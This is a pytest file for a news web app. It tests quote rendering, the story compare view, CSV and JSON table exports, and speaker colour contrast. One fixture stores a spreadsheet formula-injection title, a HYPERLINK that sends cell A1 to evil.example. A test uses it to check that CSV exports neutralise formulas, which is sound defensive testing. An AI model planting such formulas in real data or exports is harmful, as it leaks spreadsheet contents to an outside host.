"""Issue 11, item 22 (the page items a browser is not needed for): the compare view has no row for a lone
quotation mark, the story's quote table shows one pair of quotation marks, every table exports its rows as
CSV and JSON through the API, and speakers get distinct colours however many there are.

The browser items (no sideways scroll, side panel height, sorting, the quote table in its card) are in
``test_web_browser.py``.
"""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import urlsplit

import pytest

pytest.importorskip("fastapi")
from fastapi.testclient import TestClient  # noqa: E402
from stories_corpus import article  # noqa: E402
from web_corpus import build_db, span  # noqa: E402
from web_html import Page  # noqa: E402

from newsline.indexing import index
from newsline.model import Article, Entity, Mention, Quote, Sentence  # noqa: E402
from newsline.store import open_store  # noqa: E402
from newsline.stories import assign  # noqa: E402
from newsline.web import create_app  # noqa: E402
from newsline.web.render import render_article, speaker_colour, speaker_css  # noqa: E402

WORDS = "We cannot wait any longer for the ministry to act on the dredging."
FEES = ("Harbour fees in Port Velden will rise in May, the board said on Monday. "
        f'Ansel Morrow, the board\'s chair, said: "{WORDS}" '
        "The board approved the plan by seven votes to two after a long debate about the northern basin.")
FEES_COPY = f"Velmora Wire: {FEES}\n\nCopyright Velmora Wire."
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Fees")'  # a hostile title


def parsed_as_a_parser_may(text: str, speaker: str) -> list[Sentence]:
    """Sentences that leave a closing quotation mark outside (as spaCy may), and a quote whose content keeps
    its quotation marks."""
    out, start = [], 0
    for m in re.finditer(r'[.:]"? |\n\n', text):
        out.append(Sentence(start, m.start() + 1, "outlet"))
        start = m.end()
    return [*out, Sentence(start, len(text), "outlet")]


def fees_articles() -> list[Article]:
    found = []
    for text, outlet, published, slug, speaker in (
            (FEES, "velden-post.example", "2024-05-02T08:00:00+00:00", "fees", "Ansel Morrow"),
            (FEES_COPY, "velmora-wire.example", "2024-05-02T12:00:00+00:00", "fees-copy", "Brenholt Ansel")):
        a = article(text, outlet, published, slug)
        a.sentences = parsed_as_a_parser_may(text, speaker)
        quoted = span(text, f'"{WORDS}"')
        a.entities = [Entity("e1", speaker, "PERSON", [Mention(*_at(text, "Ansel Morrow"), "Ansel Morrow", "name")])]
        a.quotes = [Quote("q1", "direct", quoted, "e1", span(text, "Ansel Morrow"), span(text, "said:"), 0.9)]
        found.append(a)
    found[1].title = FORMULA
    return found


def _at(text: str, needle: str) -> tuple[int, int]:
    start = text.index(needle)
    return start, start + len(needle)


@pytest.fixture(scope="module")
def client(new_location):
    path = build_db(new_location("tables"), officials=True, stories=True)
    fees = fees_articles()
    with open_store(path) as store:
        store.add_articles([(a, "tables") for a in fees])
        index(store, stories=None)  # the registry and events (newsline.indexing)
        assign(store, fees)
    return TestClient(create_app(path))


def test_item22_compare_view_has_no_row_for_a_lone_quotation_mark(client):
    source, copy = fees_articles()
    body = client.get(f"/api/stories/{source.id}/compare/{copy.id}").json()
    own = [r["text"] for r in body["rows"] if not r["reused"]]
    assert own == ["Velmora Wire:", "Copyright Velmora Wire."]  # the lone " between two reused sentences is none
    page = Page(client.get(f"/stories/{source.id}/compare/{copy.id}").text)
    assert page.all("div", **{"class": "cmp own"}) and '"' not in [t.strip() for t in page.text]


def test_item22_story_quote_table_shows_one_pair_of_quotation_marks(client):
    source, _ = fees_articles()
    story = client.get(f"/api/stories/{source.id}").json()
    assert story["quote_links"] and story["quote_links"][0]["text"] == f'"{WORDS}"'  # the JSON keeps the text
    html = client.get(f"/stories/{source.id}").text
    cells = re.findall(r'<td class="quoted">(.*?)</td>', html, re.S)
    assert cells and all(c == f"\u201c{WORDS}\u201d" for c in cells), cells


def rows_of(html: str, table_class: str) -> int:
    table = html[html.index(f'class="listing {table_class}'):]
    return table[:table.index("</table>")].count("<tr") - 1  # less the heading


@pytest.mark.parametrize(("page_url", "table_class", "api", "count"), [
    ("/stories?min_outlets=2", "sortable", "/api/stories", None),
    ("/entities?type=PERSON", "sortable", "/api/entities", None),
    ("/outlets", "outlets", "/api/outlets", None),
    ("/stories/{story}", "story-articles", "/api/stories/{story}", "articles"),
    ("/stories/{story}", "quote-links", "/api/stories/{story}", "quote_links"),
])
def test_item22_every_table_exports_its_rows_as_csv_and_json(client, page_url, table_class, api, count):
    story = fees_articles()[0].id
    page_url, api = page_url.format(story=story), api.format(story=story)
    html = client.get(page_url).text
    page = Page(html)
    tools = html[:html.index(f'class="listing {table_class}')].rsplit('class="table-tools"', 1)[1]
    json_url = re.search(r'class="export-json" href="([^"]+)"', tools).group(1).replace("&amp;", "&")
    csv_url = re.search(r'class="export-csv" href="([^"]+)"', tools).group(1).replace("&amp;", "&")
    assert urlsplit(json_url).path == api and "format=csv" in csv_url
    assert all(a.get("href") for a in page.all("a", **{"class": "export-csv"}))
    body = client.get(json_url).json()
    items = body[count] if count else body["items"]
    exported = client.get(csv_url)
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert len(rows) == len(items) == rows_of(html, table_class) > 0
    assert list(rows[0]) == list(items[0])  # a column per field, in the API's order


def test_item22_csv_cells_never_run_as_spreadsheet_formulas(client):
    params = {"outlet": "velmora-wire.example"}
    [item] = client.get("/api/articles", params=params).json()["items"]
    [row] = csv.DictReader(io.StringIO(client.get("/api/articles", params=params | {"format": "csv"}).text))
    assert item["title"] == FORMULA and row["title"] == "'" + FORMULA  # JSON as stored; CSV made inert


def luminance(colour: str) -> float:
    channels = [int(colour[i:i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(a: str, b: str) -> float:
    dark, light = sorted((luminance(a), luminance(b)))
    return (light + 0.05) / (dark + 0.05)


def test_item22_speaker_colours_never_repeat_and_keep_their_contrast():
    colours = [speaker_colour(n) for n in range(197)]
    assert len(set(colours)) == 197  # background, line and style together (hex rounding meets at the 198th)
    assert len({c.background for c in colours[:60]}) == len({c.line for c in colours[:60]}) == 60
    for c in colours:
        assert contrast(c.background, "#1d2330") >= 7  # the article's text on the quote's background (AAA)
        assert contrast(c.line, "#ffffff") >= 4.5 and contrast(c.line, c.background) >= 3  # the underline
    # neighbours in order of appearance differ in underline style or background lightness as well as hue
    for a, b in zip(colours, colours[1:]):
        assert a.line_style != b.line_style
    assert speaker_css(13).count("--bg:") == 13 and ".spk-12 " in speaker_css(13)


def test_item22_thirteenth_speaker_has_a_colour_of_its_own(client):
    text = " ".join(f'"Point {n} stands," said Speaker{n} Velmoran.' for n in range(30))
    quotes, entities = [], []
    for n in range(30):
        content, name = span(text, f"Point {n} stands,"), span(text, f"Speaker{n} Velmoran")
        entities.append(Entity(f"e{n}", name.text, "PERSON", [Mention(name.start, name.end, name.text, "name")]))
        quotes.append(Quote(f"q{n}", "direct", content, f"e{n}", name, None, 0.9))
    rendered = render_article(Article("a" * 16, text, entities=entities, quotes=quotes))
    classes = [s.colour for s in rendered.speakers]
    assert len(set(classes)) == 30 and classes[12] == "spk-12"
    css = client.get("/speakers.css", params={"n": 30})
    assert css.headers["content-type"].startswith("text/css") and ".spk-29 " in css.text
    assert len(set(re.findall(r"--bg: (#\w+)", css.text))) == 30


def test_item22_article_page_loads_the_colours_of_its_speakers(client):
    from web_corpus import harbour_article

    page = Page(client.get(f"/articles/{harbour_article().id}").text)
    assert [a["href"] for a in page.all("link") if "speakers.css" in (a.get("href") or "")] == [
        "http://testserver/speakers.css?n=3"]
